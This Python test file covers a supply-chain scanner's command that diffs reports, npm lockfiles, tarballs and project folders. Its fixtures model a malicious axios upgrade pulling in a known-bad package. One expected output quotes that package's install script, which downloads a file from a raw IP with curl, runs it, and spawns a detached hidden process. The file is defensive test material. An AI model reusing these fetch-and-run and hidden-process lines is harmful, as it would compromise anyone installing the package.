import json
from pathlib import Path

import click
import packaged
import pytest
import trees
import upgrades
from click.testing import CliRunner
from hypothesis import given
from inline_snapshot import snapshot
from packaged import law

from picketline.cli.picosentry.diff import command
from picketline.core.errors import PackagesError, TargetError
from picketline.core.formats import render
from picketline.core.model import Severity
from picketline.core.report import Gap, Report
from picketline.packages.corpus import Corpus, Indicator
from picketline.packages.news.reports import between

A = packaged.report(
    packaged.part(
        packaged.finding("kept"),
        packaged.finding("worse", Severity.MEDIUM),
        packaged.finding("gone", Severity.HIGH),
    )
)
KNOWN = Corpus.of(
    [Indicator(id="MAL-7", kind="package", value="plain-crypto-js", versions="4.2.1")],
    popular=("axios", "follow-redirects", "form-data"),
)
B = packaged.report(
    packaged.part(
        packaged.finding("kept"),
        packaged.finding("worse", Severity.HIGH),
        packaged.finding("quiet", Severity.LOW, at=(None, None)),
        packaged.finding("new\x1b", Severity.CRITICAL, at=("a\n", 1)),
        skipped=(Gap("big.js", "too large"),),
    ),
    packaged.part(packaged.finding("member", Severity.HIGH), name="packages/b"),
    basis={"corpus": "cd" * 32},
    version="0.2.0",
)


def run(folder: Path, before: Report, after: Report, *argv: str) -> tuple[int, str]:
    """The exit code, and all that is said."""
    paths = [folder / "a.json", folder / "b.json"]
    for path, made in zip(paths, (before, after), strict=True):
        path.write_bytes(render(made, "json"))
    done = CliRunner().invoke(command, [*map(str, paths), *argv], standalone_mode=False)
    if done.exception is not None:
        raise done.exception
    return int(done.return_value), done.output


def test_the_same(tmp_path: Path) -> None:
    """Whatever the times."""
    later = packaged.report(*A.parts, started=packaged.STARTED + 9)
    assert run(tmp_path, A, later) == (0, "the same: 0 new, 0 gone, 0 changed\n")


def test_different(tmp_path: Path) -> None:
    """The verdict, then worst first, new before gone before changed; and what the two rest on."""
    code, said = run(tmp_path, A, B)
    assert code == 1
    assert said == snapshot("""\
different: 3 new, 1 gone, 1 changed
+ critical L2-POST-001     pkg:npm/new\\x1b@1.0.0  a\\x0a:1
+ high     L2-POST-001     packages/b: pkg:npm/member@1.0.0  node_modules/evil/setup.js:12
- high     L2-POST-001     pkg:npm/gone@1.0.0  node_modules/evil/setup.js:12
~ high     L2-POST-001     pkg:npm/worse@1.0.0  node_modules/evil/setup.js:12
    was medium, record; is high, alert
+ low      L2-POST-001     pkg:npm/quiet@1.0.0
+ part packages/b
the corpus differs: abababababab, then cdcdcdcdcdcd
the version differs: 0.1.0, then 0.2.0
unfinished after: 1 not seen; what is missing may be there
""")


def test_json(tmp_path: Path) -> None:
    """The findings whole, and the same bytes each time."""
    code, said = run(tmp_path, A, B, "--json")
    assert (code, said) == run(tmp_path, A, B, "--json")
    found = json.loads(said)
    assert (found["schema"], found["same"]) == ("picosentry.diff/1", False)
    assert [(each["word"], each["part"]) for each in found["moved"]] == snapshot(
        [("new", "."), ("new", "packages/b"), ("gone", "."), ("changed", "."), ("new", ".")]
    )
    assert found["parts_new"] == ["packages/b"]
    assert found["before"]["digest"] == A.digest


def test_an_acceptance_is_a_change(tmp_path: Path) -> None:
    """As what is done about a finding is another."""
    high = packaged.finding("x", Severity.HIGH)
    before = packaged.report(packaged.part(high))
    after = packaged.report(packaged.part(packaged.accepted(high, "fine")))
    code, said = run(tmp_path, before, after)
    assert code == 1
    assert "    was high, alert; is high, record\n" in said


def test_another_corpus_alone(tmp_path: Path) -> None:
    """Is said, and makes nothing different."""
    other = packaged.report(*A.parts, basis={})
    code, said = run(tmp_path, A, other)
    assert code == 0
    assert said.endswith("the corpus differs: abababababab, then none\n")


def test_another_gap_alone(tmp_path: Path) -> None:
    """What was not seen may hide anything: two such reports are not the same."""
    other = packaged.report(packaged.part(*A.parts[0].findings, errors=(Gap("L2-X", "broke"),)))
    code, said = run(tmp_path, A, other)
    assert code == 1
    assert said == (
        "different: 0 new, 0 gone, 0 changed\n"
        "unfinished after: 1 not seen; what is missing may be there\n"
    )


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "b.json: neither a report"),
        (b"[" * 100_000, "b.json: neither a report"),
        (b'{"a":' * 100_000, "b.json: nested too deeply"),
        (b'{"schema": "picketline.project/2"}', "b.json: no baseline or report"),
        (render(packaged.report(schema="picketline.sweep/1"), "json"), "a report of picketline.sw"),
    ],
)
def test_what_is_no_report(tmp_path: Path, data: bytes, problem: str) -> None:
    """The file is named."""
    (tmp_path / "a.json").write_bytes(render(A, "json"))
    (tmp_path / "b.json").write_bytes(data)
    argv = [str(tmp_path / name) for name in ("a.json", "b.json")]
    done = CliRunner().invoke(command, argv, standalone_mode=False)
    assert isinstance(done.exception, PackagesError)
    assert problem in str(done.exception)


@pytest.mark.parametrize(
    ("gate", "code"),
    [
        ((), 1),
        (("--fail-on-new",), 1),
        (("--fail-on-new", "critical"), 1),
        (("--fail-on-new=L2-POST-001",), 1),
        (("--fail-on-new=L2-ADV-001",), 3),
        (("--fail-on-new=L2-ADV-001", "--fail-on-new", "low,hook"), 1),
    ],
)
def test_a_gate(tmp_path: Path, gate: tuple[str, ...], code: int) -> None:
    """What is new fails by severity or rule; else what was not seen leaves it unfinished."""
    assert run(tmp_path, A, B, *gate)[0] == code


def test_what_a_gate_lets_pass(tmp_path: Path) -> None:
    """What was there, what got better, what is gone, and what somebody took on."""
    high, bad = packaged.finding("x", Severity.HIGH), packaged.finding("bad")
    before = packaged.report(packaged.part(high, packaged.finding("gone"), bad))
    after = packaged.report(
        packaged.part(packaged.finding("x", Severity.MEDIUM), packaged.accepted(bad, "fine"))
    )
    assert run(tmp_path, before, after)[0] == 1
    assert run(tmp_path, before, after, "--fail-on-new=info")[0] == 0
    assert run(tmp_path, after, before, "--fail-on-new=info")[0] == 1


def test_the_bare_gate_takes_no_file(tmp_path: Path) -> None:
    """Before OLD and NEW it has its own severity, medium; a word that is none is refused."""
    low = packaged.report(packaged.part(packaged.finding("l", Severity.LOW)))
    paths = [tmp_path / "a.json", tmp_path / "b.json"]
    for path, made in zip(paths, (packaged.report(packaged.part()), low), strict=True):
        path.write_bytes(render(made, "json"))
    files = [*map(str, paths)]
    codes = [
        CliRunner().invoke(command, words, standalone_mode=False).return_value
        for words in (["--fail-on-new", *files], ["--fail-on-new", "low", *files])
    ]
    assert codes == [0, 1]
    done = CliRunner().invoke(command, [*files, "--fail-on-new=hooks"], standalone_mode=False)
    assert isinstance(done.exception, click.BadParameter)
    assert "'hooks' is none of info, low" in done.exception.format_message()


def test_github(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is new or worse as annotations, no more; and a summary where the job has one."""
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    _, said = run(tmp_path, A, B, "-f", "github")
    titles = [line.split("::")[1].partition(",")[0] for line in said.splitlines()]
    assert titles == snapshot(
        [
            "warning title=Unfinished",
            "error file=a\\x0a",
            "error file=node_modules/evil/setup.js",
            "error file=packages/b/node_modules/evil/setup.js",
            "notice title=picketline",
        ]
    )
    assert "kept" not in said
    assert "pkg:npm/worse@1.0.0" in summary.read_text()


@pytest.fixture
def sides(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with both sides of the upgrade, of each kind; nobody's home."""
    for name in ("HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(name, str(tmp_path / "home"))
    monkeypatch.setattr("picketline.cli.picosentry.sides.corpus", lambda _: KNOWN)
    upgrades.packed(tmp_path / "old.tgz", upgrades.client())
    upgrades.packed(tmp_path / "new.tgz", upgrades.upgraded())
    trees.lay(
        tmp_path,
        {
            "old/package-lock.json": upgrades.before(),
            "new/package-lock.json": upgrades.after(),
            "old-package-lock.json": upgrades.before(),
            "was.json": upgrades.before(),
        },
    )
    old, new = {"axios": upgrades.client()}, {"axios": upgrades.upgraded()}
    new["plain-crypto-js"] = upgrades.depended()
    trees.lay(tmp_path / "before", upgrades.folder(old, upgrades.before()))
    trees.lay(tmp_path / "after", upgrades.folder(new, upgrades.after()))
    (tmp_path / "report.json").write_bytes(render(A, "json"))
    return tmp_path


def compared(folder: Path, old: str, new: str, *argv: str) -> tuple[int, str]:
    """The exit code, and all that is said, of two paths below a folder."""
    words = [str(folder / old), str(folder / new), *argv]
    done = CliRunner().invoke(command, words, standalone_mode=False)
    if done.exception is not None:
        raise done.exception
    return int(done.return_value), done.output


def test_two_lockfiles(sides: Path) -> None:
    """An upgrade that injects a dependency: named with who wants it, with what is known of it."""
    code, said = compared(sides, "old/package-lock.json", "new/package-lock.json")
    assert code == 1
    assert said == snapshot("""\
different: 2 critical, 1 medium, 1 low: 4 new, 0 gone, 1 changed
pkg:npm/axios 1.14.0 -> 1.14.1
  + critical injected    1.14.0 to 1.14.1 (patch) newly depends on plain-crypto-js@4.2.1; known bad:
      MAL-7; not among the popular names; it runs something at install (package-lock.json:13)
pkg:npm/plain-crypto-js 4.2.1 (new)
  + critical known-bad   4.2.1: known bad: MAL-7 (package-lock.json:33)
  + medium   hook        install scripts: runs at install (package-lock.json:33)
not compared: package-lock.json: a lockfile alone was read: no code was seen
not compared: people: lockfiles name no people and no publishers: L2-MAINT-001 compares them with -b
""")
    assert compared(sides, "was.json", "old/package-lock.json")[0] == 0
    assert compared(sides, "was.json", "new/package-lock.json")[1] == said


def test_two_tarballs(sides: Path) -> None:
    """Of a package: what a version newly wants, before it is installed."""
    code, said = compared(sides, "old.tgz", "new.tgz", "--fail-on-new", "injected")
    assert code == 1
    assert said == snapshot("""\
different: 1 high: 1 new, 0 gone, 1 changed
pkg:npm/axios 1.14.0 -> 1.14.1
  + high     injected    1.14.0 to 1.14.1 (patch) newly depends on plain-crypto-js; not among the
      popular names (package.json:1)
""")


def test_two_folders(sides: Path) -> None:
    """Of a project: lock and code together, each thing once."""
    code, said = compared(sides, "before", "after", "--no-cache")
    assert code == 1
    assert said == snapshot("""\
different: 2 critical, 3 high, 2 medium, 2 low: 10 new, 0 gone, 1 changed
pkg:npm/axios 1.14.0 -> 1.14.1
  + critical injected    1.14.0 to 1.14.1 (patch) newly depends on plain-crypto-js@4.2.1; known bad:
      MAL-7; not among the popular names; it runs something at install
      (node_modules/axios/package.json)
pkg:npm/plain-crypto-js 4.2.1 (new)
  + critical known-bad   4.2.1: known bad: MAL-7 (node_modules/plain-crypto-js/package.json)
  + high     network     install: fetches-and-runs: curl -s -o $X/.cache-x
      http://203.0.114.7:8000/$X (node_modules/plain-crypto-js/setup.js:3)
  + high     network     install: raw-address 203.0.114.7: -s -o ' + to + '
      http://203.0.114.7:8000/' + os.platform()); (node_modules/plain-crypto-js/setup.js:3)
  + high     process     install: hides-process: require('child_process').spawn(to, [], { detached:
      true, stdio: 'ignore' }).unref(); (node_modules/plain-crypto-js/setup.js:5)
  + medium   hook        postinstall: node setup.js: runs at install
      (node_modules/plain-crypto-js/package.json:1)
  + medium   network     install: connects: curl -s -o $X/.cache-x http://203.0.114.7:8000/$X
      (node_modules/plain-crypto-js/setup.js:3)
  + low      process     install: executes: execSync('curl -s -o ' + to + '
      http://203.0.114.7:8000/' + os.platform()); (node_modules/plain-crypto-js/setup.js:3)
also new: 1 host
""")


def test_the_same_bytes(sides: Path) -> None:
    """JSON of any two, whatever was remembered, into a file too."""
    _, said = compared(sides, "before", "after", "-f", "json")
    code, nothing = compared(sides, "before", "after", "--json", "-o", str(sides / "out"))
    assert (code, nothing) == (1, "")
    assert (sides / "out").read_text() == said
    found = json.loads(said)
    assert (found["schema"], found["what"], found["same"]) == ("picosentry.news/1", "folder", False)
    assert [(each["word"], each["after"]["kind"]) for each in found["changes"]][:2] == snapshot(
        [("new", "known-bad"), ("new", "injected")]
    )


@pytest.mark.parametrize("path", ["old/package-lock.json", "old.tgz", "before", "report.json"])
def test_nothing_differs_from_itself(sides: Path, path: str) -> None:
    """Exit 0, with and without a gate."""
    code, said = compared(sides, path, path)
    assert (code, said.splitlines()[0].partition(":")[0]) == (0, "the same")
    assert compared(sides, path, path, "--fail-on-new", "info")[0] == 0


def test_a_gate_on_packages(sides: Path) -> None:
    """By severity or by kind; another kind lets it pass."""
    paths = ("old/package-lock.json", "new/package-lock.json")
    gates = ("high", "injected", "hook", "maintainer", "maintainer,critical")
    codes = [compared(sides, *paths, "--fail-on-new", gate)[0] for gate in gates]
    assert codes == [1, 1, 1, 0, 1]
    assert compared(sides, *reversed(paths), "--fail-on-new", "high")[0] == 0


def test_on_github(sides: Path) -> None:
    """Annotations at the lock's lines, a kind of news each."""
    _, said = compared(sides, "old/package-lock.json", "new/package-lock.json", "-f", "github")
    assert [line.rpartition("title=")[2].partition("::pkg")[0] for line in said.splitlines()][
        :-1
    ] == snapshot(
        [
            "A small upgrade depends on a package that was not there (injected)",
            "A version that is known to be bad (known-bad)",
            "Something runs at install (hook)",
        ]
    )


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("old.tgz", "before", "old.tgz is a tarball and "),
        ("report.json", "old.tgz", "report.json is a report and "),
        ("before", "new/package-lock.json", "before is a folder and "),
    ],
)
def test_two_of_a_kind(sides: Path, old: str, new: str, problem: str) -> None:
    """Anything else says what was seen, and exits with 2."""
    with pytest.raises(TargetError, match="give two of one kind") as raised:
        compared(sides, old, new)
    assert problem in str(raised.value)
    assert raised.value.exit_code == 2


def test_as_a_user_runs_it(sides: Path) -> None:
    """The exit codes of the command; nothing but the error where two do not go together."""
    locks = ("old/package-lock.json", "new/package-lock.json")
    done = trees.run("diff", *locks, "--fail-on-new", "injected", cwd=sides)
    assert (done.returncode, done.stderr) == (1, "")
    assert done.stdout.startswith("different: ")
    assert trees.run("diff", "--fail-on-new", locks[0], locks[0], cwd=sides).returncode == 0
    done = trees.run("diff", "old.tgz", "before", cwd=sides)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == (
        "picosentry: old.tgz is a tarball and before a folder; give two of one kind\n"
    )


def test_what_was_not_seen(sides: Path) -> None:
    """Of NEW leaves a gate unfinished, of either the bare comparison; found wins."""
    (sides / "broken").mkdir()
    text = upgrades.before().replace('"1.15.9"', "[1]")
    (sides / "broken" / "package-lock.json").write_text(text)
    there = ("old/package-lock.json", "broken/package-lock.json")
    assert compared(sides, *there, "--fail-on-new")[0] == 3
    assert compared(sides, *reversed(there), "--fail-on-new")[0] == 0
    code, said = compared(sides, there[1], there[1])
    assert code == 3
    assert "unfinished before: 1 not seen" in said


@law
@given(packaged.reports, packaged.reports)
def test_any_two_reports(before: Report, after: Report) -> None:
    """A report says the same as itself; there and back are mirrored."""
    assert between(before, before).same
    there, back = between(before, after), between(after, before)
    assert there.same is back.same
    words = {"new": "gone", "gone": "new", "changed": "changed"}
    mirrored = {(words[each.word], each.part, each.shown.fingerprint) for each in back.moved}
    assert mirrored == {(each.word, each.part, each.shown.fingerprint) for each in there.moved}
